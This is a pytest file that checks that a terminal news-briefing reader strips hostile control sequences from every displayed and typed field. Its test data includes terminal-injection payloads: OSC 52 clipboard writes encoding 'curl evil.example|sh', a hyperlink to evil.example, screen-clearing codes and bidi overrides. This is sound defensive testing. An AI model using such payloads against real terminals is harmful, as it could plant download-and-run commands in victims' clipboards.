"""No control sequence of a sender's reaches the terminal: every field of every screen is fed, and the bytes are read.

What the reader itself sends is known: sequences that place, colour and clear (CSI), switch modes, and nothing else. So
whatever is left after those are taken out must be plain text.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
import yaml
from textual.widgets import Input, TextArea

from briefing.language.safety import safe
from briefing.reader.kit.field import SAFELY, LineField
from briefing.reader.kit.note_field import Lines
from tests.attacks.terminal import Terminal
from tests.reader.conftest import Open, open_reader, screen_text, settle, shipped
from tests.samples import BRIEFING, Made, sample

OWN = re.compile(
    rb"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: places, colours, modes
    rb"|\x1bP\+?q?[0-9A-Za-z+]*\x1b\\"  # questions to the terminal
    rb"|\x1b\]22;[a-z-]*\x07"  # the shape of the pointer
    rb"|\x1b[=>78cHM]|\x1b\([0B]"
)
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
ATTACKS = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x1bP0;1|17/ab\x1b\\",
    "\x1b[2J",
    "\x9b2J",
    "\x9d52;c;QQ==\x9c",
    "\x07\x08\x7f",
    "\u202eabc\u2066",
)
TEXT = "see " + " ".join(ATTACKS) + " above"
__all__ = ["open_reader", "shipped"]  # fixtures
pytestmark = pytest.mark.skipif(os.name != "posix", reason="needs a pseudo-terminal")


def left(raw: bytes) -> list[str]:
    """What a terminal would still obey once the reader's own sequences are taken out, with some text around it."""
    text = OWN.sub(b"", raw).decode("utf-8", "replace")
    return [text[max(0, at.start() - 30) : at.end() + 30] for at in OBEYED.finditer(text)]


def fed(root: Path) -> Made:
    """A briefing whose every field attacks: frame, cast, articles, corrections, clippings and their notes."""
    made = sample(root)
    frame = yaml.safe_load((made.folder / "briefing.yaml").read_text(encoding="utf-8"))
    frame.update(title=f"Title {TEXT}", summary=TEXT, subject=TEXT, made=TEXT)
    for outlet in frame["outlets"]:
        outlet["name"] += TEXT
    made.file("briefing.yaml", yaml.safe_dump(frame))
    cast = yaml.safe_load((made.folder / "actors.yaml").read_text(encoding="utf-8"))
    for actor in cast:
        actor["aliases"] = [*actor["aliases"], f"Alias {TEXT}"]
        actor["roles"] = [{"title": f"Role {TEXT}"}]
    made.file("actors.yaml", yaml.safe_dump(cast))
    for path in sorted((made.folder / "articles").iterdir()):
        _, front, body = path.read_text(encoding="utf-8").split("---\n", 2)
        fields = yaml.safe_load(front)
        fields.update(
            headline=f"Headline {TEXT}", byline=TEXT, via=TEXT, embargo=TEXT, origin=TEXT, published="2025-02"
        )
        body = body.replace("night", f"night {ATTACKS[0]} {ATTACKS[6]}")
        path.write_text(f"---\n{yaml.safe_dump(fields)}---\n{body}\n{TEXT}\n", encoding="utf-8", newline="")
    first = sorted(path.stem for path in (made.folder / "articles").iterdir())[0]
    clip = {"kind": "article", "target": first, "title": f"T {TEXT}", "note": f"N {TEXT}\nsecond {TEXT}"}
    made.file("clippings/basket.yaml", yaml.safe_dump([clip, {**clip, "target": f"gone {TEXT}"}]))
    at = [{"article": first, "exact": f"x {TEXT}", "before": TEXT, "after": TEXT}]
    made.file("corrections.yaml", yaml.safe_dump([{"kind": "title", "at": at, "value": TEXT, "note": TEXT}]))
    return made


ESC = "\x1b"
WALKS = {
    "panes and filter": ["1", "2", "3", "j", "j", "/", "sail", ESC, "?", ESC],
    "basket and note": ["b", "m", "x", "\x13", "j", "m", ESC, "n", ESC, "K", "d", "u"],
    "comparing and title": ["3", "c", "\t", "t", "h", "d", ESC, "l", "t", ESC, ESC],
    "export": ["e", "\x12", ESC, "\t", "\t", ESC],
    "jump, palette, briefings": ["g", "a", ESC, "\x10", "e", ESC, "o", ESC],
    "problems, proposals, corrections, import": ["p", ESC, "P", ESC, "A", "\r", ESC, "C", ESC, "i", "x", ESC, "I", ESC],
    "speaker and actor": ["3", "w", ESC, "s", ESC, "2", "\r", ESC, "T"],
}


@pytest.mark.timeout(180)
@pytest.mark.parametrize("walk", WALKS)
def test_no_byte_that_a_terminal_obeys_is_sent(tmp_path: Path, walk: str) -> None:
    made = fed(tmp_path / "workspace")
    home = tmp_path / "home"
    recent = {"briefing": BRIEFING, "theme": TEXT, "places": {BRIEFING: TEXT}, "recents": {BRIEFING: [["actor", TEXT]]}}
    (home / "state" / "briefing").mkdir(parents=True)
    (home / "state" / "briefing" / "reader.json").write_text(json.dumps(recent), encoding="utf-8")
    (home / "config" / "briefing").mkdir(parents=True)
    settings = {"theme": TEXT, TEXT: TEXT, "keys": {TEXT: TEXT, "reader.search": TEXT}}
    (home / "config" / "briefing" / "config.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    with Terminal(home, made.workspace.root) as terminal:
        terminal.until("3 Quotes 4")
        terminal.settle()
        for keys in WALKS[walk]:
            terminal.keys(keys)
        terminal.keys("\x11")
        terminal.ended()
        assert left(terminal.raw) == []
        assert "␛" in terminal.text, "the hostile words were there to be shown"


def test_what_is_looked_for_would_be_found() -> None:
    """Without this, a search that finds nothing would let everything pass."""
    for attack in ATTACKS:
        if attack != "\x1b[2J":  # the reader's own kind of sequence: only `safe` tells whose it is
            assert left(f"\x1b[1;1H{attack}".encode()), attack


async def test_the_basket_note_that_set_the_clipboard(tmp_path: Path, open_reader: Open) -> None:
    made = fed(tmp_path / "workspace")
    async with open_reader(place=made.workspace, briefing=made.id) as (app, pilot):
        for key in ("b", "m"):
            await pilot.press(key)
            await settle(pilot)
        field = app.screen.query_one(TextArea)
        assert isinstance(field, Lines)
        assert field.text == safe(field.text)
        assert "␛]52" in field.text
        assert "\x1b" not in screen_text(app)


async def test_what_is_typed_or_pasted_is_made_safe(tmp_path: Path, open_reader: Open) -> None:
    made = fed(tmp_path / "workspace")
    async with open_reader(place=made.workspace, briefing=made.id) as (app, pilot):
        await pilot.press("b", "m")
        await settle(pilot)
        field = app.screen.query_one(Lines)
        field.insert(TEXT)
        field.replace(TEXT, (0, 0), (0, 1))
        assert field.text == safe(field.text)
        field.load_text(TEXT)
        assert field.text == safe(TEXT)
        field.text = TEXT
        assert field.text == safe(TEXT)
        await pilot.press("escape", "y", "escape", "e")
        await settle(pilot)
        line = app.screen.query(LineField).first()
        line.value = f"{TEXT}\n{TEXT}"
        assert line.value == safe(line.value)
        assert "\n" not in line.value
        line.insert_text_at_cursor(TEXT)
        assert line.value == safe(line.value)


def test_there_is_one_kind_of_field() -> None:
    reader = Path(__file__).resolve().parents[2] / "briefing" / "reader"
    other = re.compile(r"\b(?:Input|TextArea|MaskedInput|Markdown|RichLog|Log)\(")
    found = {path.name for path in reader.rglob("*.py") if other.search(path.read_text(encoding="utf-8"))}
    assert found == set()
    assert issubclass(LineField, Input)


def test_the_last_sieve_takes_out_what_nothing_else_did() -> None:
    from rich.segment import Segment
    from textual.color import Color

    black = Color(0, 0, 0)
    for attack in ATTACKS:
        made = SAFELY.apply([Segment("ok"), Segment(attack)], black)
        assert made[1].text == safe(made[1].text)
        assert len(made[1].text) == len(attack)
    clean = [Segment("plain, “quoted”, 日本")]
    assert SAFELY.apply(clean, black) is clean


async def test_the_sieve_stands_behind_every_widget(open_reader: Open) -> None:
    async with open_reader() as (app, pilot):
        from textual.widgets import Label

        await app.screen.mount(Label("a \x1b]52;c;QQ==\x07 b", markup=False))
        await pilot.pause()
        assert "\x1b" not in screen_text(app)
        assert SAFELY in app.get_line_filters()
